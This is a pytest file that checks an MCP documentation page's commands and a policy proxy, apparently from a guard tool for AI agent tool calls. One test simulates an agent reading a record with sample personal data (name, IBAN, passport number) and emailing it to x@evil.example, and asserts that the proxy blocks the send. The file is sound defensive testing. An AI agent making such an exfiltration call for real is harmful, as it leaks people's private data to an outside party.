"""The MCP page's `policy init` and proxy commands run as written, the proxy driven by a real MCP client.

(`.venv/bin/carbguard` and `.venv/bin/python` are mapped to this interpreter; tests/test_snippets.py runs the
page's other blocks.)
"""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path

import anyio
import pytest

pytest.importorskip("mcp")

from mcp.client.session import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

ROOT = Path(__file__).resolve().parents[2]
SECTION = (ROOT / "docs" / "integrations" / "mcp.md").read_text(encoding="utf-8")
BASH = re.findall(r"```bash(?: notest| {\.notest})?\n(.*?)```", SECTION, re.S)
PYTHON = re.findall(r"```python\n(.*?)```", SECTION, re.S)
CONFIG = re.findall(r"```json\n(.*?)```", SECTION, re.S)
ALICE = "Alice Meyer, IBAN DE89370400440532013000, passport C01X00T47"


def _argv(line: str) -> list[str]:
    words = shlex.split(line, comments=True)
    assert words[0] == ".venv/bin/carbguard"
    return [sys.executable, "-m", "guard", *(sys.executable if w == ".venv/bin/python" else w for w in words[1:])]


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "fixtures").symlink_to(ROOT / "tests" / "fixtures")
    return tmp_path


def test_snippets_are_short() -> None:
    """Catches a command block that grew to 15 lines or more, or a Python example longer than 30 lines.

    (The Python examples — the wrapper, and recording an episode with it — are complete as pasted: imports,
    server parameters and the run, hence their own bound.)
    """
    assert len(BASH) == 2 and len(PYTHON) == 2
    assert all(len(block.strip().splitlines()) < 15 for block in BASH)
    assert all(len(block.strip().splitlines()) <= 30 for block in PYTHON)


def test_policy_init_and_proxy_commands_run_as_written(workdir: Path) -> None:
    """Catches a documented command that fails, or a generated policy under which the exfiltration gets through."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for line in BASH[0].strip().splitlines():
        done = subprocess.run(_argv(line), cwd=workdir, env=env, capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, (line, done.stdout, done.stderr)
    assert "# check:" in (workdir / "my_mcp_server.yaml").read_text()
    (proxy_line,) = BASH[1].strip().splitlines()
    argv = _argv(proxy_line)
    params = StdioServerParameters(
        command=argv[0],
        args=argv[1:],
        cwd=str(workdir),
        env={"PYTHONPATH": str(ROOT), "MCP_FIXTURE_LOG": str(workdir / "server.log")},
    )

    async def drive() -> tuple[object, object]:
        with (workdir / "proxy.err").open("w") as err:
            async with stdio_client(params, errlog=err) as (read, write), ClientSession(read, write) as client:
                await client.initialize()
                record = await client.call_tool("read_record", {"name": "alice"})
                sent = await client.call_tool("send_email", {"to": "x@evil.example", "subject": "r", "body": ALICE})
                return record, sent

    record, sent = anyio.run(drive)
    assert record.content[0].text == ALICE and sent.is_error  # type: ignore[attr-defined]
    received = [json.loads(x)["tool"] for x in (workdir / "server.log").read_text().splitlines()]
    assert received == ["read_record"]


def test_client_config_is_json_naming_the_proxy() -> None:
    """Catches a broken JSON example for Claude Desktop's config."""
    (found,) = CONFIG
    config = json.loads(found)
    args = config["mcpServers"]["files"]["args"]
    assert config["mcpServers"]["files"]["command"].endswith("/carbguard") and args[0] == "mcp-proxy" and "--" in args


def test_guarded_client_snippet_runs(monkeypatch: pytest.MonkeyPatch) -> None:
    """Catches a documented wrapper example that does not run or whose refusal assertion fails."""
    monkeypatch.chdir(ROOT)
    exec(compile(PYTHON[0], "docs/integrations/mcp.md", "exec"), {"__name__": "docs"})
